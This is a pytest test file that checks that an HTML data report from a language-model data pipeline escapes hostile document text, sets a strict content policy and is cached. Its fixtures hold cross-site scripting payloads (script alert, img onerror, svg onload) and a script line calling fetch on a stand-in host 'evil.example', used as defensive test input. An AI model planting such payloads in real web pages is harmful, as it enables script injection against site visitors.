"""The page about the data: safe whatever documents hold, whole without a network, drawn once."""

import json
from html.parser import HTMLParser

import pytest

from lmcore.config import CodeRules, DataConfig, LimitsConfig, QualityConfig, SourceConfig, TokenizerConfig
from lmcore.data import prepare
from lmcore.progress import silent
from lmcore.store import Store
from tasks import pictures
from tasks.data_report import FINDINGS, PAGE, build_report, report_stage
from tasks.prepare import documents_stage, splits_stage, tokenizer_stage, tokens_stage

HOSTILE = "<script>alert('text')</script><img src=x onerror=alert(1)>\"'&amp;"
NAME = "<svg onload=alert(2)>"
BROKEN = "{</pre><script>fetch('//evil.example')</script>\x1b[31m"
EXPECTED_TAGS = {
    *("html", "head", "meta", "title", "style", "body", "header", "footer", "nav", "section", "div", "span"),
    *("h1", "h2", "h3", "p", "b", "i", "a", "ul", "li", "bdi", "pre", "details", "summary"),
    *("table", "thead", "tbody", "tr", "th", "td", "svg", "rect", "path", "line", "text", "tspan"),
}


@pytest.fixture(scope="module")
def config(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    rows = [{"text": f"{HOSTILE} number {i} " * 3, "id": f"{NAME}{i}"} for i in range(40)]
    rows += [{"text": f"{HOSTILE[:30]}{i}", "id": f"short {NAME}{i}"} for i in range(3)]
    rows += [rows[0] | {"id": f"copy {NAME}"}]
    lines = [json.dumps(row) for row in rows] + [BROKEN]
    (folder / f"{NAME.replace('/', '')}.jsonl").write_text("\n".join(lines))
    return DataConfig(
        sources=[SourceConfig(name="web", kind="files", path=f"{folder}/*.jsonl", id_field="id")],
        quality=QualityConfig(code=CodeRules(min_chars=40, max_mean_line_chars=1_000)),
        limits=LimitsConfig(max_quarantined=0.5),
        tokenizer=TokenizerConfig(vocab_size=300),
        validation_fraction=0.2,
        workers=1,
    )


@pytest.fixture(scope="module")
def prepared(config, tmp_path_factory):
    store = Store(tmp_path_factory.mktemp("store"))
    inventory = prepare.take_inventory(config)
    documents = store.ensure(
        documents_stage(config, inventory),
        lambda out: prepare.build_documents(config, inventory, out, silent),
    )
    splits = store.ensure(
        splits_stage(config, documents), lambda out: prepare.build_splits(config, documents.path, out, silent)
    )
    tokenizer = store.ensure(
        tokenizer_stage(config, documents, splits),
        lambda out: prepare.build_tokenizer(config, documents.path, splits.path, out, silent),
    )
    tokens = store.ensure(
        tokens_stage(config, documents, splits, tokenizer),
        lambda out: prepare.build_tokens(config, documents.path, splits.path, tokenizer.path, out, silent),
    )
    return store, (documents, splits, tokens)


@pytest.fixture(scope="module")
def report(config, prepared):
    store, stages = prepared
    return store.ensure(report_stage(config, *stages), lambda out: build_report(config, *stages, out, silent))


class Reader(HTMLParser):
    def __init__(self, text):
        super().__init__()
        self.tags, self.attributes, self.text = [], [], []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.tags.append(tag)
        self.attributes += attributes

    def handle_data(self, data):
        self.text.append(data)


def test_hostile_text_stays_text(report):
    page = (report.path / PAGE).read_text()
    found = Reader(page)
    assert set(found.tags) <= EXPECTED_TAGS
    assert not [name for name, _ in found.attributes if name.startswith("on")]
    told = "".join(found.text)
    assert HOSTILE in told, "the text of a copied document"
    assert HOSTILE[:30] in told, "the text of a dropped one"
    assert f"web:short {NAME}" in told
    assert f"{NAME}.jsonl record" in told
    assert BROKEN.replace("\x1b", "␛") in told, "control characters are shown as such"
    assert "chars 31 is below 40" in told


def test_the_page_asks_for_nothing(report):
    page = (report.path / PAGE).read_text()
    found = Reader(page)
    policy = next(value for _, value in found.attributes if value and value.startswith("default-src"))
    assert policy == "default-src 'none'; style-src 'unsafe-inline'; img-src data:"
    links = [value for name, value in found.attributes if name in ("href", "src")]
    assert links
    anchors = {value for name, value in found.attributes if name == "id"}
    assert {link.removeprefix("#") for link in links} <= anchors
    style = page.partition("<style>")[2].partition("</style>")[0]
    assert "url(" not in style
    assert "@import" not in style


def test_all_sections_have_their_pictures(report):
    page = (report.path / PAGE).read_text()
    findings = json.loads((report.path / FINDINGS).read_text())
    assert page.count('<svg class="plot"') == len(findings["figures"])
    assert page.count('<svg class="funnel"') == page.count('<svg class="plot wide"') == 1
    assert "Masked" not in page, "nothing was"
    assert len(page) < 200_000


def test_the_page_is_drawn_once(config, prepared, report):
    store, stages = prepared
    again = store.ensure(report_stage(config, *stages), lambda out: pytest.fail("built again"))
    assert (again.status, again.path) == ("reused", report.path)
    # A threshold that decides as before about every document is shown all the same.
    rules = config.quality.code.model_copy(update={"min_chars": 41})
    other = config.model_copy(update={"quality": config.quality.model_copy(update={"code": rules})})
    assert report_stage(other, *stages).key != report.key
    workers = config.model_copy(update={"workers": 7})
    assert report_stage(workers, *stages).key == report.key


def test_nothing_is_left_but_the_page_and_its_figures(report):
    assert {path.name for path in report.path.iterdir()} == {PAGE, FINDINGS, "manifest.json"}


@pytest.mark.parametrize(
    ("value", "text"),
    [
        *((0, "0"), (0.25, "0.25"), (7, "7"), (1234, "1,234"), (12_345, "12.3k"), (999_999, "1,000k")),
        *((3.44e6, "3.44M"), (250e9, "250G"), (2e15, "2,000T"), (0.0123, "0.012")),
    ],
)
def test_numbers_are_short(value, text):
    assert pictures.number(value) == text


def test_a_funnel_tells_what_each_step_lost():
    steps = [
        ("documents in", 10),
        ("readable", 10),
        ("after a", 7),
        ("distinct", 5),
        ("train", 4),
        ("validation", 1),
    ]
    assert pictures.losses(steps) == [
        ("documents in", 10, 0),
        ("after a", 7, 3),
        ("distinct", 5, 2),
        ("train", 4, 0),
        ("validation", 1, 0),
    ]
